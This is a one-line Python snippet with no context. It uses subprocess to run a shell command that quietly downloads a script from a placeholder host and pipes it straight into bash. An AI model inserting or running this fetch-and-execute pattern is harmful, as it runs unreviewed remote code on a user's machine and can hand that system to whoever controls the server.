subprocess.run(["sh", "-c", "wget -qO- https://x.example.org/i | bash"])
